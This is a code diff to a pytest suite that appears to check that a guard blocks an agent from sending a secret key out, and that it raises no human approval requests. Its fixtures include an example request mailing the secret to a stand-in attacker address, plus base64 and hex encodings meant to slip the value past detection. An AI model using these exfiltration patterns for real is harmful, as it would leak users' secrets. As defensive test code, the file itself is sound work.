@@ -21,6 +21,12 @@ def mine(stage: Stage, variable: str = "PAY_KEY", agent: str = "bot") -> str:
     return value
 
 
+def pending(stage: Stage) -> set[str]:
+    """What people are asked about; other attacks have left some."""
+    cards = stage.kb.api(stage.boss, "/api/v1/approvals?state=pending")[1]["approvals"]
+    return {card["id"] for card in cards}
+
+
 MOVED = {
     "mail-body": ("POST", "/open/mail", "Content-Type: text/plain", "to: me@evil.example {}"),
     "json-body": ("POST", "/open/x", "Content-Type: application/json", '{{"text": "{}"}}'),
@@ -48,6 +54,7 @@ MOVED = {
 @pytest.mark.parametrize("spelt", ["plain", "base64", "hex"])
 def test_moved_elsewhere(stage: Stage, case: str, spelt: str) -> None:
     method, path, line, body = MOVED[case]
+    before = pending(stage)
     value = mine(stage)
     if spelt == "base64":
         value = quote(base64.b64encode(f"user:{value}".encode()).decode().rstrip("="))
@@ -60,7 +67,7 @@ def test_moved_elsewhere(stage: Stage, case: str, spelt: str) -> None:
         body=body.format(value, value).encode(),
     )
     stage.held(stage.ask(data), CODE)
-    assert stage.kb.api(stage.boss, "/api/v1/approvals?state=pending")[1]["approvals"] == []
+    assert pending(stage) <= before, "people are not asked about it"
 
 
 def test_escaped_letter_by_letter_in_the_query(stage: Stage) -> None:
